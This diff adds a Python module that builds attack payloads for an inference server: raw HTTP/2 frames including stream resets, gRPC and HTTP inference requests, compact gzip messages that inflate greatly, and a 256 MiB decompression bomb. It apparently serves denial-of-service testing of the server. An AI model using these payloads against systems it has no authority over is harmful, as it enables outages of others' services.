@@ -1,0 +1,130 @@
+"""The bytes that attacks are made of: HTTP/1.1 requests, HTTP/2 frames and gRPC messages, built once and sent in big writes."""
+
+from __future__ import annotations
+
+import gzip
+import struct
+import zlib
+from collections.abc import Sequence
+from functools import cache
+
+import hpack
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
+END_STREAM, END_HEADERS = 0x1, 0x4
+INITIAL_WINDOW_SIZE = 4
+MIB = 1 << 20
+
+ADD1 = "/v2/models/add1/infer"
+MODEL_INFER = "/inference.GRPCInferenceService/ModelInfer"
+
+
+def frame(type: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", type, flags, stream) + payload
+
+
+def settings(*pairs: tuple[int, int]) -> bytes:
+    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))
+
+
+def greeting(*pairs: tuple[int, int]) -> bytes:
+    """What a client says first."""
+    return PREFACE + settings(*pairs) + frame(SETTINGS, 1, 0)
+
+
+def window_update(stream: int, increment: int) -> bytes:
+    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", increment))
+
+
+def reset(stream: int) -> bytes:
+    return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+
+
+def fields(method: str, path: str, *extra: tuple[str, str]) -> list[tuple[str, str]]:
+    return [(":method", method), (":scheme", "http"), (":path", path), (":authority", "x"), *extra]
+
+
+GRPC_FIELDS = fields("POST", MODEL_INFER, ("content-type", "application/grpc"), ("te", "trailers"))
+
+
+def headers(encoder: hpack.Encoder, stream: int, what: Sequence[tuple[str, str]], *, end: bool) -> bytes:
+    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, encoder.encode(what))
+
+
+def data(stream: int, payload: bytes, *, end: bool) -> bytes:
+    """DATA frames of at most 16 KiB."""
+    pieces = [payload[at : at + 16384] for at in range(0, len(payload), 16384)] or [b""]
+    last = len(pieces) - 1
+    return b"".join(frame(DATA, END_STREAM if end and at == last else 0, stream, piece) for at, piece in enumerate(pieces))
+
+
+def _varint(value: int) -> bytes:
+    encoded = bytearray()
+    while value >= 0x80:
+        encoded.append(value & 0x7F | 0x80)
+        value >>= 7
+    encoded.append(value)
+    return bytes(encoded)
+
+
+def _field(number: int, value: bytes) -> bytes:
+    return _varint(number << 3 | 2) + _varint(len(value)) + value
+
+
+def infer_message(model: str, shape: Sequence[int], raw: bytes) -> bytes:
+    """inference.ModelInferRequest with one FP32 input INPUT0."""
+    tensor = _field(1, b"INPUT0") + _field(2, b"FP32") + _field(3, b"".join(map(_varint, shape)))
+    return _field(1, model.encode()) + _field(5, tensor) + _field(7, raw)
+
+
+def grpc_message(message: bytes, *, compressed: bool = False) -> bytes:
+    return struct.pack(">BI", compressed, len(message)) + message
+
+
+def add1_message() -> bytes:
+    return grpc_message(infer_message("add1", (1, 16), bytes(64)))
+
+
+def post(path: str, body: bytes, *extra: str) -> bytes:
+    head = [f"POST {path} HTTP/1.1", "Host: x", f"Content-Length: {len(body)}", *extra, "", ""]
+    return "\r\n".join(head).encode() + body
+
+
+def binary_request(model: str, shape: Sequence[int], raw: bytes) -> bytes:
+    """An inference over HTTP with one binary input, and a binary output."""
+    dimensions = ",".join(map(str, shape))
+    document = (
+        f'{{"inputs":[{{"name":"INPUT0","datatype":"FP32","shape":[{dimensions}],"parameters":{{"binary_data_size":{len(raw)}}}}}],'
+        '"parameters":{"binary_data_output":true}}'
+    ).encode()
+    return post(f"/v2/models/{model}/infer", document + raw, f"Inference-Header-Content-Length: {len(document)}")
+
+
+def add1_request() -> bytes:
+    return binary_request("add1", (1, 16), bytes(64))
+
+
+@cache
+def zipped_ident_message() -> bytes:
+    """A call of ident: 600 bytes that ask for 602,112."""
+    return grpc_message(gzip.compress(infer_message("ident", (1, 3, 224, 224), bytes(602112))), compressed=True)
+
+
+@cache
+def zipped_ident_request() -> bytes:
+    document = (
+        b'{"inputs":[{"name":"INPUT0","datatype":"FP32","shape":[1,3,224,224],"parameters":{"binary_data_size":602112}}],'
+        b'"parameters":{"binary_data_output":true}}'
+    )
+    packed = gzip.compress(document + bytes(602112))
+    length = f"Inference-Header-Content-Length: {len(document)}"
+    return post("/v2/models/ident/infer", packed, length, "Content-Encoding: gzip")
+
+
+@cache
+def bomb(wrapper: int = 31, size: int = 256 * MIB) -> bytes:
+    """`size` blanks, in gzip (31) or zlib (15): about a thousandth of it."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, wrapper)
+    blank = b" " * MIB
+    return b"".join(packer.compress(blank) for _ in range(size // MIB)) + packer.flush()
